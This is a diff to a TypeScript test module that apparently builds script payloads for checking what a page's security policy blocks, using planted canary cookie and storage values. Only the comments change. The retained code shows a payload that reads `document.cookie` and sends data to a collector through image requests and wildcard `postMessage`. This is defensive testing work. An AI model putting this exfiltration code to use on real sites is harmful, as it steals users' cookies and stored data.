@@ -1,7 +1,7 @@
-// What a payload does once a script of its own runs, and the target it is written against.
+// What a payload does once it can run a script, and the target for which it is written.
 import type { Target } from "./payload.ts";
 
-/** Planted in the app's origin; whoever hears the second part has read the first. */
+/** Stored in the app's origin; a report with the second part proves that the first was read. */
 export const canary = {
   cookie: { name: "plinth_theme_seed", value: "kept-cookie-5f3a9c" },
   storage: { name: "plinth-kept", value: "kept-storage-81d27e" },
@@ -19,7 +19,7 @@ export function targetOf(aim: Aim): Target {
     collector,
     app,
     victim,
-    // Few want one, and there are few.
+    // Few payloads need a socket, and there are few.
     get socket() {
       return aim.socketOf();
     },
@@ -33,12 +33,12 @@ export function targetOf(aim: Aim): Target {
   };
 }
 
-/** Tells the server elsewhere, and the page around, from which the test hears what the policy keeps from the server. */
+/** Reports to the server elsewhere, and to the surrounding page, from which the test learns what the policy blocks. */
 const tellFunction = (name: string): string =>
   `var tell=function(way,what){what=String(what);new Image().src=at+way+'?'+encodeURIComponent(what.slice(0,2000));` +
   `top.postMessage({struck:'${name}',way:way,what:what},'*')};`;
 
-// Everything a script of the app's own origin could do, each by itself, so that one refusal hides no other.
+// Everything a script of the app's origin could do, each in its own try, so that one refusal does not hide another.
 function strikeOf({ name, collector, app, victim }: Aim): string {
   const tries = [
     `cookie:function(){return document.cookie}`,
